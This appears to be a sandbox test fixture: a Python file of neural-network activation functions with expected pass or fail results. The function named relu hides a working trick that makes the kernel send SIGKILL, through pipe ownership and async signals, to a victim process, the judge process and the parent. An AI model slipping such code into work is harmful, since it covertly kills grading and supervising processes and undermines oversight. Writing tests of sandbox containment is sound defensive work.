"""relu has the kernel send the signal for it: it names another process as owner of a pipe that becomes ready.

Expected: sigmoid: passed 1; relu: failed or error or crashed 0; leaky_relu: passed 1
"""

import contextlib
import fcntl
import os
import signal
import struct

import numpy as np

SET_SIGNAL, SET_OWNER_EX = 10, 15


def sigmoid(x):
    small = np.exp(-np.abs(x))
    return np.where(x >= 0, 1, small) / (1 + small)


def relu(x):
    for process in (int("@VICTIM@"), int("@JUDGE@"), os.getppid()):
        with contextlib.suppress(OSError):
            reading, writing = os.pipe()
            fcntl.fcntl(reading, SET_SIGNAL, signal.SIGKILL)
            with contextlib.suppress(OSError):
                fcntl.fcntl(reading, fcntl.F_SETOWN, process)
            with contextlib.suppress(OSError):
                fcntl.fcntl(reading, SET_OWNER_EX, struct.pack("ii", 1, process))
            fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(writing, b"now")
            os.close(reading)
            os.close(writing)
    return x


def leaky_relu(x, *, slope=0.01):
    return np.where(x >= 0, x, slope * x)
